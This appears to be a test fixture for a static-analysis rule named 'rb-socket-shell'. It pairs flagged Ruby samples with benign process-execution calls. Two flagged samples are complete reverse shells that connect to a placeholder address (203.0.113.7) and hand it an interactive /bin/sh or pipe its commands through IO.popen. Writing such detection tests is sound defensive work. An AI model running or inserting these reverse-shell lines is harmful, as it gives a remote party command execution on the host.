# ruleid: rb-socket-shell
c = TCPSocket.new("203.0.113.7", 4444); while (cmd = c.gets); IO.popen(cmd, "r") { |io| c.print io.read }; end
# ===== block =====
f = TCPSocket.open("203.0.113.7", 1234).to_i
# ruleid: rb-socket-shell
exec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)
# ===== block =====
# ok: rb-socket-shell
output = IO.popen(["git", "log", "-1"]).read
# ok: rb-socket-shell
IO.popen(cmd) { |io| puts io.read }
# ===== block =====
# ok: rb-socket-shell
exec("/bin/sh -c 'make build'")
